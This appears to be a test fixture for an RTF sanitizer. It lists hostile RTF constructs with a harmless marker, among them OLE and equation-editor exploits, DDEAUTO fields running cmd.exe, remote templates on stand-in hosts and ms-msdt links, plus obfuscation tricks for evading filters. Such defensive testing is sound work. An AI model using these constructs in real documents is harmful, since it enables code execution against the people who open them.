/** Hostile RTF: what a reader of RTF can be made to do, and the ways to write it so that a filter does not see it. */
import type { FindingKind } from '../../../sanitizer/findings.ts'
import type { RefusalCode } from '../../../sanitizer/protocol.ts'

export const MARKER = 'SEKISHO-EVIL-7f3a'
/** 残す文字 in code page 932, as Word writes it. */
export const KEPT = "\\'8e\\'63\\'82\\'b7\\'95\\'b6\\'8e\\'9a KEPT"
/** The same as it must come out. */
export const KEPT_WRITTEN = '\\u27531?\\u12377?\\u25991?\\u23383? KEPT'

export const hex = (text: string | Uint8Array): string => Buffer.from(text as string).toString('hex')
export const fonts =
  "{\\fonttbl{\\f0\\fmodern\\fcharset128\\fprq1 \\'82\\'6c\\'82\\'72 \\'96\\'be\\'92\\'a9;}{\\f1\\fswiss\\fcharset0 Arial;}{\\f2\\fnil\\fcharset2 Symbol;}}"
export const rtf = (body: string, head = fonts): Buffer =>
  Buffer.from(`{\\rtf1\\ansi\\ansicpg932\\deff0${head}\\pard\\plain\\f0 ${KEPT}\\par ${body}\\par ${KEPT}}`, 'latin1')

export interface Threat {
  readonly name: string
  readonly rtf: string
  readonly finds: FindingKind
}
const threat = (name: string, finds: FindingKind, written: string): Threat => ({ name, finds, rtf: written })
const field = (code: string, result = 'shown'): string => `{\\field{\\*\\fldinst {${code}}}{\\fldrslt {${result}}}}`
const ole = `d0cf11e0a1b11ae1${hex(MARKER)}`
const shape = (property: string, value: string): string =>
  `{\\shp{\\*\\shpinst\\shpleft0\\shptop0\\shpright100\\shpbottom100{\\sp{\\sn ${property}}{\\sv ${value}}}{\\shptxt shown}}}`

/** Each with the marker inside, where it must not survive. */
export const threats: readonly Threat[] = [
  threat(
    'an OLE object, embedded',
    'ole-object',
    `{\\object\\objemb\\objw100\\objh100{\\*\\objclass ${MARKER}}{\\*\\objdata ${ole}}{\\result shown}}`,
  ),
  threat(
    'an OLE object that updates itself (CVE-2017-0199)',
    'ole-object',
    `{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata ${ole}}}`,
  ),
  threat('an OLE object in HTML', 'ole-object', `{\\object\\objhtml{\\*\\objdata ${ole}}}`),
  threat('an ActiveX control', 'activex', `{\\object\\objocx{\\*\\objdata ${ole}}}`),
  threat('the data of an object alone', 'ole-object', `{\\*\\objdata ${ole}}`),
  threat('the data of an object, not marked as ignorable', 'ole-object', `{\\objdata ${ole}}`),
  threat('the equation editor (CVE-2017-11882)', 'ole-object', `{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 01050000${ole}}}`),
  threat('a class identifier', 'ole-object', `{\\*\\oleclsid ${MARKER}}`),
  threat('an attached template (T1221)', 'attached-template', `{\\*\\template http://${MARKER}.example/a.dotm}`),
  threat('an attached template, not marked as ignorable', 'attached-template', `{\\template \\\\\\\\${MARKER}\\\\a.dotm}`),
  threat('a field that runs a program', 'dde', field(`DDEAUTO c:\\\\\\\\cmd.exe "/k ${MARKER}"`)),
  threat('a field that asks before it does', 'dde', field(`DDE cmd "${MARKER}"`)),
  threat('a field that fetches a picture', 'field', field(`INCLUDEPICTURE "http://${MARKER}.example/a.png" \\\\d`)),
  threat('a field that fetches text', 'field', field(`INCLUDETEXT "\\\\\\\\\\\\\\\\${MARKER}\\\\\\\\a"`)),
  threat('a field that links', 'field', field(`LINK Excel.Sheet.8 "${MARKER}" a1 \\\\a`)),
  threat('a field that imports', 'field', field(`IMPORT "${MARKER}"`)),
  threat('a field of a macro', 'field', field(`MACROBUTTON ${MARKER} click`)),
  threat('a field of a database', 'field', field(`DATABASE \\\\d "${MARKER}"`)),
  threat('a field that embeds', 'field', field(`EMBED ${MARKER}`)),
  threat('a link with the scheme of a handler', 'field', field(`HYPERLINK "ms-msdt:/id ${MARKER}"`)),
  threat('a link to a share', 'field', field(`HYPERLINK "\\\\\\\\\\\\\\\\${MARKER}\\\\\\\\a"`)),
  threat('a link to a file', 'field', field(`HYPERLINK "file:///c:/${MARKER}"`)),
  threat('a link to a script', 'field', field(`HYPERLINK "javascript:${MARKER}"`)),
  threat('a link that names another host than it shows', 'field', field(`HYPERLINK "https://bank@${MARKER}.example/"`)),
  threat('a link into another frame', 'field', field(`HYPERLINK "https://a.example/" \\\\t "${MARKER}"`)),
  threat('an instruction spread over runs', 'dde', field(`{\\b D}{\\i DE}{\\ul AUTO} }{ "${MARKER}"`)),
  threat('an instruction written in hexadecimal', 'dde', field(`\\'44\\'44\\'45\\'41UTO "${MARKER}"`)),
  threat('an instruction written as Unicode', 'dde', field(`\\u68?\\u68?\\u69?AUTO "${MARKER}"`)),
  threat('an instruction with what is skipped in between', 'dde', field(`\\uc3\\u68 xyz\\uc0\\u68\\u69 AUTO "${MARKER}"`)),
  threat('an instruction made by a field inside', 'field', field(`${field('QUOTE 68 68 69')} "${MARKER}"`)),
  threat('a link made by a field inside', 'field', field(`HYPERLINK "${field(`QUOTE "${MARKER}"`, MARKER)}"`, 'shown')),
  threat('two instructions in one field', 'field', `{\\field{\\*\\fldinst PAGE}{\\*\\fldinst DDEAUTO "${MARKER}"}{\\fldrslt shown}}`),
  threat('an instruction without its field', 'field', `{\\*\\fldinst DDEAUTO "${MARKER}"}`),
  threat('a field without groups', 'dde', `{\\field\\fldinst DDEAUTO "${MARKER}"\\fldrslt shown}`),
  threat('the data of a field', 'field', `{\\*\\datafield ${hex(MARKER)}}`),
  threat(
    'a macro of a form field',
    'macro',
    `{\\field{\\*\\fldinst FORMTEXT {\\*\\formfield{\\fftype0{\\*\\ffname Text1}{\\*\\ffentrymcr ${MARKER}}{\\*\\ffexitmcr ${MARKER}}}}}{\\fldrslt shown}}`,
  ),
  threat('a metafile', 'unknown', `{\\pict\\wmetafile8\\picw100\\pich100 ${hex(MARKER)}}`),
  threat('an enhanced metafile', 'unknown', `{\\*\\shppict{\\pict\\emfblip\\picw100\\pich100 ${hex(MARKER)}}}`),
  threat('bytes that are no picture', 'unknown', `{\\pict\\pngblip\\picw1\\pich1\\bin${MARKER.length} ${MARKER}}`),
  threat('binary data outside a picture', 'unknown', `\\bin${MARKER.length} ${MARKER} shown`),
  threat('a picture that is a link', 'external-reference', shape('pibName', `http://${MARKER}.example/`)),
  threat('fragments of a shape (CVE-2010-3333)', 'unknown', shape('pFragments', `1;1;${hex(MARKER)}`)),
  threat('corners of a shape whose count lies', 'unknown', shape('pVerticies', `8;9;(0,0);${MARKER}`)),
  threat('a link on a shape', 'unsafe-link', shape('pihlShape', `{\\*\\hl{\\hlloc ${MARKER}}{\\hlsrc http://a.example/}{\\hlfr x}}`)),
  threat('a drawing inside a drawing', 'embedded-file', shape('metroBlob', `{\\*\\svb ${hex(MARKER)}}`)),
  threat('an older drawing', 'unknown', `{\\*\\do\\dobxpage\\dptxbx{\\dptxbxtext ${MARKER}}}`),
  threat('data of custom XML', 'custom-xml', `{\\*\\datastore ${hex(MARKER)}}`),
  threat('namespaces of custom XML', 'custom-xml', `{\\*\\xmlnstbl{\\xmlns1 ${MARKER}}}`),
  threat('a theme', 'embedded-file', `{\\*\\themedata ${hex(MARKER)}}`),
  threat('a source of merging', 'connection', `{\\*\\mailmerge{\\*\\mmconnectstr ${MARKER}}{\\*\\mmquery SELECT}}`),
  threat('document variables', 'custom-xml', `{\\*\\docvar {a}{${MARKER}}}`),
  threat('properties', 'metadata', `{\\*\\userprops{\\propname a}\\proptype30{\\staticval ${MARKER}}}`),
  threat('an author', 'metadata', `{\\info{\\author ${MARKER}}{\\*\\hlinkbase http://${MARKER}/}}`),
  threat('the program that saved it', 'metadata', `{\\*\\generator ${MARKER};}`),
  threat('the hash of a password', 'protection', `{\\*\\passwordhash ${hex(MARKER)}}`),
  threat('an embedded font', 'font', `{\\fonttbl{\\f9\\fnil{\\*\\fontemb\\ftruetype ${hex(MARKER)}}Arial;}}`),
  threat('HTML in disguise', 'alternate-content', `\\fromhtml1{\\*\\htmltag64 <script>${MARKER}</script>}`),
  threat('a table of files', 'embedded-file', `{\\*\\filetbl{\\file\\fid0\\frelative0 ${MARKER}}}`),
  threat('a destination that nobody knows', 'unknown', `{\\*\\sekisho ${MARKER}}`),
  threat('an ignorable group without a name', 'unknown', `{\\* ${MARKER}}`),
]

/** Ways to write the same. What goes in stands alone in its paragraph. */
export const disguises: Readonly<Record<string, (written: string) => string>> = {
  'as it is': (written) => written,
  'hexadecimal in capitals and with blanks': (written) =>
    written.replace(/[0-9a-f]{16,}/g, (digits) => digits.toUpperCase().replace(/(..)/g, '$1 \r\n')),
  'line breaks in and behind words': (written) => written.replaceAll('{', '{\r\n').replaceAll('}', '\r\n}'),
  'words in front that mean nothing': (written) => written.replace(/^\{(?!\\rtf)/, '{\\sekisho123\\b0 '),
  'a destination behind text': (written) => written.replace(/^\{/, '{\\b0 x'),
  'groups around groups': (written) => `{{\\b{{${written}}}}}`,
  'in a header': (written) => `{\\header\\pard ${written}\\par}`,
  'in a footnote': (written) => `\\chftn{\\footnote\\pard ${written}}`,
  'in a comment': (written) => `{\\*\\atnid A}{\\*\\atnauthor B}\\chatn{\\*\\annotation ${written}}`,
  'in a cell': (written) => `\\trowd\\cellx5000\\pard\\intbl ${written}\\cell\\row\\pard`,
  'in the result of a safe field': (written) => `{\\field{\\*\\fldinst PAGE}{\\fldrslt ${written}}}`,
  'in the result of an unsafe field': (written) => `{\\field{\\*\\fldinst RD a}{\\fldrslt ${written}}}`,
  'in a text box': (written) => `{\\shp{\\*\\shpinst\\shpleft0{\\sp{\\sn shapeType}{\\sv 202}}{\\shptxt ${written}}}}`,
  'as the Unicode of two readings': (written) => `{\\upr{a}{\\*\\ud{${written}}}}`,
  'as the result of an object': (written) => `{\\object\\objemb{\\result ${written}}}`,
  'as the text of a list': (written) => `{\\listtext ${written}}`,
  'in a style': (written) => `{\\stylesheet{\\s1 ${written} Name;}}`,
}

/** Whole files that are refused. */
export const refused: readonly (readonly [name: string, code: RefusalCode, bytes: Buffer])[] = [
  ['{\\rt is no RTF', 'malformed', Buffer.from('{\\rt\\ansi x}')],
  ['blanks before the first brace', 'malformed', Buffer.from(' {\\rtf1 x}')],
  ['a group that does not end', 'malformed', Buffer.from('{\\rtf1 {x}')],
  ['a backslash at the end', 'malformed', Buffer.from('{\\rtf1 x\\')],
  ['binary data past the end', 'malformed', Buffer.from('{\\rtf1\\bin99 x}')],
  ['binary data of negative length', 'malformed', Buffer.from('{\\rtf1\\bin-1 x}')],
  ['binary data of a length that overflows', 'malformed', Buffer.from('{\\rtf1\\bin4294967297 x}')],
  ['groups without end', 'limit-depth', Buffer.from(`{\\rtf1 ${'{'.repeat(300)}x${'}'.repeat(300)}}`)],
  ['destinations in each other without groups', 'limit-depth', Buffer.from(`{\\rtf1 ${'\\header'.repeat(300)} x}`)],
  [
    'fonts without end (CVE-2023-21716)',
    'limit-entries',
    Buffer.from(`{\\rtf1{\\fonttbl${Array.from({ length: 5000 }, (_, id) => `{\\f${id} A;}`).join('')}}x}`),
  ],
  ['colours without end', 'limit-entries', Buffer.from(`{\\rtf1{\\colortbl${';'.repeat(5000)}}x}`)],
]
